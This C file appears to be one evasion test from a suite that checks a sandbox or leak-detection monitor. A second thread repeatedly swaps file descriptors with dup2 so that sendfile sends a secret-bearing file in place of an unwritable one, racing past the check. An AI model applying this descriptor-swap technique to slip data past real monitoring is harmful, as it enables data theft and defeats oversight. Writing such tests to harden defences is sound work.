/* Evasion: while one thread sends a file that nobody can write, another one puts a file of the function in its place. The
 * peer gets what a later request wrote into it. */
#include "unread.h"

enum { TRIES = 400 };

static char path[256];
static int shown, own, harmless;
static atomic_bool done;
static atomic_uint swaps;

static void prepare(void)
{
    make_file(path);
}

static void *swap(void *unused)
{
    (void)unused;
    while (!done) {
        check(dup2(own, shown) == shown, "dup2");
        swaps++;
        sched_yield();
        check(dup2(harmless, shown) == shown, "dup2");
        sched_yield();
    }
    return NULL;
}

static void handle(const char *secret)
{
    static char contents[PAGE];
    pthread_t thread;
    bool sent = false;
    own = open(path, O_RDWR | O_CLOEXEC);
    harmless = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    check(own >= 0 && harmless >= 0, path);
    leave(contents, sizeof contents, secret);
    check(pwrite(own, contents, sizeof contents, 0) == PAGE, path);
    int times = told(secret), fd = to_unread(connect_internet(SOCK_STREAM));
    shown = dup(harmless);
    done = false;
    swaps = 0;
    check(pthread_create(&thread, NULL, swap, NULL) == 0, "pthread_create");
    for (int tries = 0; tries < TRIES; tries++) {
        off_t start = 0;
        /* Every other time it waits for a swap: on a busy machine all would be sent before the first. */
        for (unsigned before = swaps; tries % 2 == 0 && swaps == before;)
            sched_yield();
        sent = sendfile(fd, shown, &start, 64) == 64 || sent;
    }
    done = true;
    pthread_join(thread, NULL);
    if (!sent)
        (void)!send(fd, contents, sizeof contents, MSG_NOSIGNAL | MSG_DONTWAIT);
    close(fd);
    close(shown);
    close(own);
    close(harmless);
    answer("{\"told\":%d}", times);
}
